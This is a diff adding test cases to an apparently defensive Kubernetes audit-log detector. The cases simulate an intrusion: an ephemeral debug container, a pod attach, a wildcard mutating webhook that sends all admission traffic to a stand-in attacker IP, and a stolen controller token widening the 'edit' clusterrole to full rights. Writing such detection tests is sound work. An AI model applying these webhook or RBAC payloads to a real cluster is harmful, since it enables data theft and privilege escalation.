@@ -52,5 +52,51 @@ class Lent(Reach):
                           and f["subject"] in remains], ["shop/stays"])
 
 
+KCM_SA = "system:serviceaccount:kube-system:clusterrole-aggregation-controller"
+BUILD, EVIL = "build@example.org", "198.51.100.200"
+PUT = {"spec": {"ephemeralContainers": [{"name": "d", "image": "netshoot"}]}}
+HOOK = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+        "metadata": {"name": "hook"}, "webhooks": [
+            {"name": "hook.example.org", "failurePolicy": "Ignore", "clientConfig": {
+                "url": "https://198.51.100.200/"}, "rules": [{
+                    "operations": ["*"], "apiGroups": ["*"], "apiVersions": ["*"],
+                    "resources": ["*"]}]}]}
+
+
+class Debugger(Reach):
+    """Somebody puts a container into the pod, attaches to it, and changes admission."""
+
+    def story(self, home, *more):
+        c = Case("debugger", "2026-06-18")
+        for i in range(10):
+            c.request(60 * i, BUILD, "patch", "deployments shop/worker", group="apps",
+                      source=home, agent="kubectl/v1.28.4")
+        there = {"source": EVIL, "agent": "kubectl/v1.31.0"}
+        c.request(1200, BUILD, "patch", "pods/ephemeralcontainers shop/web-0", body=PUT, **there)
+        c.request(1240, BUILD, "create", "pods/attach shop/web-0", 101, **there)
+        c.request(1300, BUILD, "create", "mutatingwebhookconfigurations hook", 201,
+                  group="admissionregistration.k8s.io", body=HOOK, **there)
+        for at, agent in more:
+            c.request(at, KCM_SA, "patch", "clusterroles edit", group="rbac.authorization.k8s.io",
+                      body={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
+                      source=EVIL, agent=agent, groups=INSIDE)
+        self.analyze({"pod.json": json.dumps(shop(c)), "audit.log": lines(c.records())})
+        return self.documents["story"]["first_sign"]
+
+    def test_the_container_that_is_put_in_comes_first(self):
+        self.assertEqual(self.story(EVIL)[:19], "2026-06-18T10:20:00")
+        self.assertEqual([f["subject"] for f in self.found("kube.insider")], [BUILD])
+
+    def test_a_stolen_token_of_a_component_hides_no_address(self):
+        first = self.story("20.50.10.5", (1400, "kubectl/v1.31.0"))
+        self.assertEqual(first[:19], "2026-06-18T10:20:00")
+        self.assertEqual([f["subject"] for f in self.found("kube.account-at-new-place")],
+                         [BUILD])
+
+    def test_a_component_that_works_from_there_does(self):
+        self.story("20.50.10.5", (1400, "kube-controller-manager/v1.28.9"))
+        self.assertEqual(self.found("kube.account-at-new-place"), [])
+
+
 if __name__ == "__main__":
     unittest.main()
